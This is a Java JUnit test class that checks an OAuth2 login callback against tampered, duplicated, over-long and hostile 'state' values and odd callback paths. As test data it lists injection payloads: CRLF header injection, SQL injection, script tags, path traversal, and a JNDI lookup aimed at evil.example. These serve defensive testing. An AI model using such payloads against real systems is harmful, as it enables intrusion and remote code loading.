package io.github.oauth2state.scenario;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.List;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.github.oauth2state.LoginOutcome;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attacks by the state of a callback, and by the request that it comes with, from a
 * browser that has a login pending.
 */
@Tag("full")
class StateParameterAttackTests extends AttackTests {

	StateParameterAttackTests(Deployment deployment) {
		super(deployment);
	}

	@Test
	void stateThatIsMissingEmptyOrThereTwiceIsNone() {
		VictimLogin login = begin();
		for (String query : List.of("", "state=", "state", "STATE={state}", "state%00={state}", "state[]={state}",
				"%20state={state}", "state={state}&state={state}", "state={state}&state=", "state=&state={state}",
				"state={state}&st%61te={state}")) {
			String url = CALLBACK + "?code=1&" + query.replace("{state}", login.encodedState());
			attackWithoutStoreCall(() -> this.browser.open(this.b, url));
		}
		assertCompletes(login);
	}

	@Test
	void stateOfHostileCharactersIsNoMarkOfThisBrowser() {
		VictimLogin login = begin();
		for (String hostile : List.of("%00", "{state}%00", "%0d%0aSet-Cookie:%20a=b", "%1b%5b31m", "%c0%af",
				"%ed%a0%80", "%ff", "%2525", "%25%30%30", "*", "%7b%7d", ":", "%25", "%27%22", "%27%20OR%201=1--",
				"%22%3E%3Cscript%3E", "$%7bjndi:ldap://evil.example/a%7d", "%20{state}", "{state}%20", "{state}=",
				"{state}%0a", "../{state}", "%e2%80%ae")) {
			String url = login.callbackWithState(hostile.replace("{state}", login.encodedState()));
			attackWithoutStoreCall(() -> this.browser.open(this.b, url));
		}
		assertCompletes(login);
	}

	/**
	 * A browser can forge a mark for any state, and then the store is asked. The store
	 * sees only digests.
	 */
	@ParameterizedTest
	@ValueSource(strings = { "\u0000", "\r\nSET a b", "*", "{}", ":", "%", "'; DROP TABLE oauth2_state; --",
			"\u001b[31m", "\ud83d\ude00", "caf\u00e9" })
	void stateOfHostileCharactersWithAForgedMarkFindsNothing(String hostile) {
		VictimLogin login = begin();
		Browser forging = this.browser.copy();
		forging.cookies().put(VictimLogin.cookieName("scenario", hostile), login.cookie());
		String url = login.callbackWithState(URLEncoder.encode(hostile, StandardCharsets.UTF_8));
		Browser.Page page = attack(() -> forging.open(this.b, url));
		assertThat(outcomes()).containsExactly(LoginOutcome.ALREADY_USED);
		assertThat(page.location()).isEqualTo(APP + BEGIN);
		assertCompletes(login);
	}

	@Test
	void statesThatLookAlikeAreNotTheSame() {
		String composed = "caf\u00e9";
		String decomposed = Normalizer.normalize(composed, Normalizer.Form.NFD);
		VictimLogin login = begin();
		this.browser.cookies().put(VictimLogin.cookieName("scenario", composed), login.cookie());
		String url = login.callbackWithState(URLEncoder.encode(decomposed, StandardCharsets.UTF_8));
		attackWithoutStoreCall(() -> this.browser.open(this.b, url));
		assertThat(outcomes()).containsExactly(LoginOutcome.FOREIGN_BROWSER);
		assertCompletes(login);
	}

	@ParameterizedTest
	@ValueSource(ints = { 4097, 10_000, 1_000_000 })
	void stateThatIsTooLongCostsNoStoreCallThoughItHasAMark(int length) {
		String state = "x".repeat(length);
		VictimLogin login = begin();
		this.browser.cookies().put(VictimLogin.cookieName("scenario", state), login.cookie());
		attackWithoutStoreCall(() -> this.browser.open(this.b, login.callbackWithState(state)));
		assertThat(outcomes()).containsExactly(LoginOutcome.FOREIGN_BROWSER);
		assertCompletes(login);
	}

	@Test
	void hundredsOfStatesAtOnceAreNone() {
		VictimLogin login = begin();
		String url = login.callback() + ("&state=" + login.encodedState()).repeat(900);
		attackWithoutStoreCall(() -> this.browser.open(this.b, url));
		assertCompletes(login);
	}

	@Test
	void stateInQueryAndBodyAtOnceIsRefused() {
		VictimLogin login = begin();
		String form = "state=" + login.encodedState();
		attackWithoutStoreCall(() -> this.browser.post(this.b, login.callback(), form));
		assertCompletes(login);
	}

	@Test
	void postedCallbackThatTheLoginDidNotAskForIsRefused() {
		VictimLogin login = begin();
		String[] parts = login.callback().split("\\?", 2);
		attackWithoutStoreCall(() -> this.browser.post(this.b, parts[0], parts[1]));
		attackWithoutStoreCall(() -> this.browser.post(this.b, login.callback(), ""));
		attackWithoutStoreCall(() -> this.browser.send(this.b, "PUT", login.callback(), parts[1]));
		attackWithoutStoreCall(() -> this.browser.send(this.b, "DELETE", login.callback(), null));
		assertCompletes(login);
	}

	@ParameterizedTest
	@ValueSource(strings = { "HEAD", "OPTIONS", "TRACE", "PROPFIND" })
	void otherMethodsOfAnotherBrowserDoNotBurnTheLogin(String method) {
		VictimLogin login = begin();
		attackWithoutStoreCall(() -> Browser.overHttps().send(this.b, method, login.callback(), null));
		assertCompletes(login);
	}

	/**
	 * Some of them are other pages of the app, where a client's callback might be: the
	 * record is looked at and left where it is. A reactive app does not see that a slash
	 * was doubled: Spring takes one off with the proxy's headers.
	 */
	@Test
	void oddSpellingsOfTheCallbackPathDoNotBurnTheLogin() {
		VictimLogin login = begin();
		for (String path : List.of("/login/oauth2/code/idp;jsessionid=ABC", "/login/oauth2/code;a=b/idp",
				"/login/oauth2/code/idp/", "/login/oauth2/code/idp%2f", "/login/oauth2/code//idp",
				"/login/oauth2/code/x/../idp", "/login/oauth2/code/%2e%2e/idp", "/login/oauth2/code/idp%00",
				"/login/oauth2/code/idp%3bjsessionid=ABC", "/login/oauth2/code/idp%250a", "/login/oauth2/code/IDP/x")) {
			if (this.stack == Stack.REACTIVE && path.contains("//")) {
				continue;
			}
			String url = path + "?" + login.callback().split("\\?", 2)[1];
			attack(() -> this.browser.open(this.b, url));
			assertThat(outcomes()).as(path).isEmpty();
		}
		assertCompletes(login);
	}

	@Test
	void registrationIdsOfAnyLengthAreNoServerError() {
		VictimLogin login = begin();
		for (String id : new String[] { "x".repeat(100_000), "%69%64%70%20", "idp%0a", "%F0%9F%98%80", "'" }) {
			attackWithoutStoreCall(
					() -> Browser.overHttps().open(this.b, "/login/oauth2/code/" + id + "?code=1&state=s"));
			assertThat(this.browser.open(this.b, "/oauth2/authorization/" + id).status()).as("begin")
				.isBetween(300, 499);
		}
		assertCompletes(login);
	}

}
